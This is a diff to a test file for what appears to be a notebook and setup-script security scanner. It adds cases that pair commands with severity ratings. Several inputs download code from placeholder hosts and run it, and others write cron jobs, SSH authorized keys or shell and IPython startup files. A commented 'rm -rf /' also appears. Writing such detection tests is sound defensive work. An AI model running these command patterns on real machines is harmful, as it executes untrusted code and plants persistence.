@@ -38,6 +38,21 @@ describe('commands of a notebook', () => {
     ['!{command}', 'shell/runs-computed-command medium'],
     ['!bash setup.sh', 'shell/runs-program low'],
     ['!wget http://x.y/model.pt', 'shell/downloads-in-clear medium'],
+    ['!wget https://x.y/run.py\n---\n!python run.py', 'shell/runs-harmful-command high'],
+    ['%%bash\nwget https://x.y/z -O /tmp/x\nchmod +x /tmp/x\n/tmp/x', 'shell/runs-harmful-command high'],
+    ['!curl -fsSLo i.sh https://x.y/i\n!sudo bash ./i.sh', 'shell/runs-harmful-command high'],
+    ['!wget -qP /tmp https://x.y/i.sh?a=b\n!sh /tmp/i.sh', 'shell/runs-harmful-command high'],
+    ['!curl https://x.y/i > i.py\n%run i.py', 'shell/runs-harmful-command high'],
+    [
+      "from urllib.request import urlretrieve\nurlretrieve('https://x.y/m', 'm.py')\n---\n%run m.py",
+      'shell/runs-harmful-command high',
+    ],
+    ['%%writefile /etc/cron.d/x\n* * * * * root id', 'python/writes-startup-file high'],
+    ['%%writefile -a ~/.ssh/authorized_keys\nssh-ed25519', 'python/writes-startup-file high'],
+    ['%%writefile ~/.ipython/profile_default/startup/a.py\nx = 1', 'python/writes-startup-file high'],
+    ['!cp job /etc/cron.d/job', 'python/writes-startup-file high'],
+    ['!echo x | tee -a ~/.zshrc', 'python/writes-startup-file high'],
+    ['!echo x >> ~/.ipython/profile_default/startup/a.py', 'python/writes-startup-file high'],
     ['%run https://x.y/a.py', 'notebook/runs-remote-code high'],
     ['%load https://x.y/a.py', 'notebook/runs-remote-code medium'],
     ['%load_ext somebodys', 'notebook/loads-extension low'],
@@ -55,8 +70,22 @@ describe('commands of a notebook', () => {
     '!curl -L https://x.y/a.tar.gz | tar xz\n!chmod +x run.sh\n!crontab -l',
     "!echo 'curl https://x.y | sh'",
     '%matplotlib inline\n%load_ext autoreload\n%autoreload 2\n%run helper.py',
+    '!wget https://x.y/data.csv\n!python train.py data.csv\n!curl -O https://x.y/a.py\n!python b.py -m a.py',
+    '!wget https://x.y/model.pt -O /tmp/model.pt\n!python -m tool /tmp/model.pt\n!ls /tmp/model.pt',
+    '%%writefile run.sh\n#!/bin/bash\npython train.py --lr 1',
+    '%%writefile train.py\n#!/usr/bin/env python\nprint(1)\n---\n!python train.py',
+    "%%bash\ncat > .env <<EOF\nmine x\nEOF\nls\ncat <<-'END' | grep x\n\tyours\n\tEND\nls",
     '# !rm -rf /\ntext = "!pip install x"',
   ])('nothing of %j', (cells) => expect(judged(cells)).toEqual([]));
+});
+
+describe('a here-document', () => {
+  test('is a command where a shell reads it', () =>
+    expect(simpleCommands('bash <<EOF\nmine\nEOF').map(({ program }) => program)).toContain('mine'));
+  test('is none where it is written', () =>
+    expect(simpleCommands('cat > x <<"EOF"\nmine\nEOF\nls').map(({ program }) => program)).toEqual(
+      ['cat', 'EOF', 'ls'].filter((program) => program !== 'EOF'),
+    ));
 });
 
 describe('scripts of a notebook', () => {
@@ -101,6 +130,8 @@ describe('what sets up a machine', () => {
     ['useradd -m app\nsystemctl enable docker', []],
     ["echo 'export A=1' >> ~/.bashrc", []],
     ['wget -q https://x.y/a.sh && bash a.sh', ['low']],
+    ['wget https://x.y/a.sh\nbash a.sh', ['medium']],
+    ['wget http://192.0.2.1/x -O /tmp/x\nchmod +x /tmp/x\n/tmp/x', ['high']],
     ['chmod 777 data', ['medium']],
     ['curl -s https://x.y/a.sh | bash', ['critical']],
     ['curl -sSL https://install.python-poetry.org | python3 -', ['low']],
